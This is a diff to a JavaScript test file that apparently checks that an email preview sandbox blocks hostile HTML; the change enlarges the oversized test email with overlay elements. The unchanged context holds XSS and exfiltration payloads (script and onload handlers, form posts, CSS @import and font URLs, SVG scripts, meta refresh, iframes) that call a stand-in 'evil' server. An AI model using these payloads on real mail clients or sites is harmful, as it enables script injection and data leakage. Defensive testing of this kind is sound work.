@@ -4,19 +4,22 @@ import { listen } from '../../lib/ports.mjs';
 import { assert, until } from '../check.mjs';
 
 const TARGET_BYTES = 5_000_000;
+/** Elements of the largest email that cover its frame. Chromium takes ten seconds for 50,000 of them. */
+const OVERLAYS = 1_000;
 /** Paths that an email with images may request. */
 const IMAGES = /^\/(background|image|selector)$/;
 
 /** Returns the emails by name. `evil` is the address of a server that must get no request. */
 function attacks(evil) {
-  const filler = '<table><tr><td><div style="position:fixed;inset:0;z-index:9">Filler</div></td></tr></table>';
+  const overlay = '<table><tr><td><div style="position:fixed;inset:0;z-index:9">Filler</div></td></tr></table>';
+  const filler = `<p>${'Filler '.repeat(150)}</p>`;
   return {
     script: `<script>top.document.title='taken'; fetch('${evil}/script')</script><body onload="top.location='${evil}/onload'"><img src="x" onerror="top.document.title='taken'"><script src="${evil}/script.js"></script><a id="go" href="javascript:top.document.title='taken'">go</a>`,
     form: `<form action="${evil}/form" method="post" target="_top"><input name="q" value="1" autofocus><button id="go">go</button></form><form action="/dashboard/api/captured" method="post"></form>`,
     css: `<style>@import url(${evil}/import); html,body{position:fixed;inset:-900px;width:9000px;height:9000px;z-index:2147483647;background:red url(${evil}/background)} @font-face{font-family:x;src:url(${evil}/font)} body{font-family:x} :root{--brand:red} a[href]{background:url(${evil}/selector)}</style><link rel="stylesheet" href="${evil}/link"><link rel="prefetch" href="${evil}/prefetch"><a id="go" href="${evil}/top" target="_top">go</a>`,
     svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="top.document.title='taken'"><script>top.document.title='taken'</script><image href="${evil}/image"/><use href="${evil}/use#a"/><foreignObject width="9" height="9"><iframe src="${evil}/foreign"></iframe></foreignObject><a href="${evil}/link" target="_top"><text id="go" y="20">go</text></a></svg>`,
     refresh: `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *"><base href="${evil}/" target="_top"><a id="go" href="base">go</a><iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">`,
-    large: filler.repeat(Math.ceil(TARGET_BYTES / filler.length)),
+    large: overlay.repeat(OVERLAYS) + filler.repeat(Math.ceil(TARGET_BYTES / filler.length)),
   };
 }
 
